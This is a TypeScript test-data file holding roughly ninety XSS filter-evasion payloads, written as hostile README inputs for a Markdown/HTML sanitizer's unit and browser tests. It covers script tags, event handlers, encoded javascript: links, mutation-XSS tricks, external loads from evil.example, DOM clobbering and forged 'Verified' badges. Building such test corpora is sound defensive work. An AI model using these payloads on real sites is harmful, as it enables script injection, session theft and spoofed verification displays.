/**
 * Hostile READMEs: filter-evasion payloads in the style of OWASP's XSS cheat
 * sheet, in raw HTML and in Markdown. Each one that worked would run
 * `alert(1)` (or navigate, load a stylesheet, or clobber the page's DOM), so a
 * browser test can load a page with each and listen for dialogs. Data only:
 * the unit test (libs/contract/src/readme.test.ts) and the Chromium test share it.
 */
export interface XssPayload {
  /** Short and unique, for test names. */
  name: string;
  /** The whole README. */
  markdown: string;
}

const DATA_HTML = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // Script elements
  { name: 'script element', markdown: '<script>alert(1)</script>' },
  { name: 'script element, mixed case', markdown: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script element with src', markdown: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script split by a nested script', markdown: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script inside a Markdown paragraph', markdown: 'Intro <script>alert(1)</script> text' },

  // Event handlers
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror with slashes for spaces', markdown: '<img/src/onerror=alert(1)>' },
  { name: 'img onerror with entity-encoded code', markdown: '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">' },
  { name: 'img onerror glued to a quoted attribute', markdown: '<img src="x"onerror="alert(1)">' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)>' },
  { name: 'svg script', markdown: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg animate sets a javascript href', markdown: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>' },
  { name: 'body onload', markdown: '<body onload=alert(1)>' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)><summary>more</summary>text</details>' },
  { name: 'input autofocus onfocus', markdown: '<input autofocus onfocus=alert(1)>' },
  { name: 'video and audio onerror', markdown: '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>' },
  { name: 'marquee onstart', markdown: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'a onclick and onmouseover', markdown: '<a href="https://example.com" onclick="alert(1)" onmouseover="alert(1)">x</a>' },
  { name: 'unclosed tag with a handler', markdown: '<a href="https://example.com" onclick=alert(1)//' },

  // Frames, plugins, forms, document-level elements
  { name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'iframe javascript src', markdown: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe fallback markup', markdown: '<iframe><img src=x onerror=alert(1)></iframe>' },
  { name: 'object data:text/html', markdown: `<object data="${DATA_HTML}"></object>` },
  { name: 'embed javascript src', markdown: '<embed src="javascript:alert(1)">' },
  { name: 'form action javascript', markdown: '<form action="javascript:alert(1)"><button>go</button></form>' },
  { name: 'button formaction javascript', markdown: '<form><button formaction="javascript:alert(1)">go</button></form>' },
  { name: 'isindex action', markdown: '<isindex action="javascript:alert(1)" type=image>' },
  { name: 'base href', markdown: '<base href="https://evil.example/">[home](https://example.com)' },
  { name: 'meta refresh to javascript', markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'meta refresh to data', markdown: `<meta http-equiv="refresh" content="0;url=${DATA_HTML}">` },
  { name: 'link stylesheet', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },

  // Styles
  { name: 'style @import', markdown: '<style>@import "https://evil.example/x.css";</style>' },
  { name: 'style attribute with a javascript url', markdown: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'style hiding the page', markdown: '<p style="position:fixed;inset:0;background:white">Verified</p>' },

  // Namespace confusion and mutation XSS
  { name: 'math mtext mglyph style', markdown: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>' },
  { name: 'form math mtext mglyph', markdown: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  { name: 'svg p style a id', markdown: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { name: 'noscript title breakout', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'textarea solidus close', markdown: '<textarea></textarea/><img src=x onerror=alert(1)>' },
  { name: 'svg textarea', markdown: '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>' },
  { name: 'title raw text', markdown: '<title><img src=x onerror=alert(1)></title>' },
  { name: 'xmp raw text', markdown: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { name: 'template content', markdown: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'html comment broken by --!>', markdown: '<!-- --!><img src=x onerror=alert(1)> -->' },
  { name: 'html comment <!-->', markdown: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'CDATA section', markdown: '<![CDATA[><img src=x onerror=alert(1)>]]>' },
  { name: 'processing instruction', markdown: '<?xml version="1.0"?><img src=x onerror=alert(1)>' },

  // javascript: in HTML links
  { name: 'a javascript', markdown: '<a href="javascript:alert(1)">x</a>' },
  { name: 'a javascript, mixed case', markdown: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'a javascript with a tab entity', markdown: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'a javascript with a newline entity', markdown: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'a javascript with a literal tab', markdown: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'a javascript with a NUL entity', markdown: '<a href="java&#0;script:alert(1)">x</a>' },
  { name: 'a javascript in decimal entities', markdown: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>' },
  { name: 'a javascript in zero-padded entities without semicolons', markdown: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>' },
  { name: 'a javascript in hex entities without semicolons', markdown: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>' },
  { name: 'a javascript with &colon;', markdown: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'a javascript after spaces', markdown: '<a href="  javascript:alert(1)">x</a>' },
  { name: 'a javascript after a control character', markdown: '<a href="&#x01;javascript:alert(1)">x</a>' },
  { name: 'a javascript unquoted', markdown: '<a href=javascript:alert(1)>x</a>' },
  { name: 'a vbscript', markdown: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'a data:text/html', markdown: `<a href="${DATA_HTML}">x</a>` },
  { name: 'a protocol-relative', markdown: '<a href="//evil.example/">x</a>' },
  { name: 'a backslashes as a host', markdown: '<a href="\\\\evil.example\\x">x</a>' },
  { name: 'a href breaking out with an encoded quote', markdown: '<a href="https://example.com/&#x22; onmouseover=&#x22;alert(1)">x</a>' },
  { name: 'a target _blank', markdown: '<a href="https://example.com" target="_blank">x</a>' },

  // Markdown links and images
  { name: 'markdown link javascript', markdown: '[x](javascript:alert(1))' },
  { name: 'markdown link javascript with an entity colon', markdown: '[x](javascript&#58;alert(1))' },
  { name: 'markdown link javascript in angle brackets', markdown: '[x](<javascript:alert(1)>)' },
  { name: 'markdown link javascript, mixed case', markdown: '[x](JAVAscript:alert(1))' },
  { name: 'markdown link javascript percent-encoded', markdown: '[x](%6Aavascript:alert(1))' },
  { name: 'markdown link data:text/html', markdown: `[x](${DATA_HTML})` },
  { name: 'markdown link vbscript', markdown: '[x](vbscript:msgbox(1))' },
  { name: 'markdown link title breakout', markdown: '[x](https://example.com "a\\" onmouseover=\\"alert(1)")' },
  { name: 'markdown image javascript', markdown: '![x](javascript:alert(1))' },
  { name: 'markdown image data:image/svg+xml', markdown: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'markdown image data:image/png', markdown: '![x](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'markdown image alt breakout', markdown: '![x" onerror="alert(1)](https://example.com/a.png)' },
  { name: 'markdown image title breakout', markdown: '![x](https://example.com/a.png "\\" onerror=\\"alert(1)")' },
  { name: 'markdown image inside a javascript link', markdown: '[![x](https://example.com/a.png)](javascript:alert(1))' },
  { name: 'autolink javascript', markdown: '<javascript:alert(1)>' },
  { name: 'autolink data:text/html', markdown: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'reference link javascript', markdown: '[x][r]\n\n[r]: javascript:alert(1)' },
  { name: 'reference image javascript', markdown: '![x][r]\n\n[r]: javascript:alert(1)' },
  { name: 'raw link inside markdown link text', markdown: '[<a href="javascript:alert(1)">x</a>](https://example.com)' },
  { name: 'heading with an img onerror', markdown: '# <img src=x onerror=alert(1)> Title' },
  { name: 'table cell with an img onerror', markdown: '| a |\n|---|\n| <img src=x onerror=alert(1)> |' },
  { name: 'code fence info breakout', markdown: '```js" onmouseover="alert(1)\ncode\n```' },

  // DOM clobbering and borrowing the page's look
  { name: 'id and name clobbering', markdown: '<a id="signature-verification" name="CONFIG" href="https://example.com">x</a><form name="getElementById"></form><img name="cookie">' },
  { name: 'forged heading id', markdown: '<h2 id="readme-usage">Forged</h2>' },
  { name: 'class borrowing the verified badge', markdown: '<p class="verdict ok"><strong>Verified</strong></p>' },
  { name: 'forged code language class', markdown: '<pre><code class="language-js verdict ok">x</code></pre>' },
];
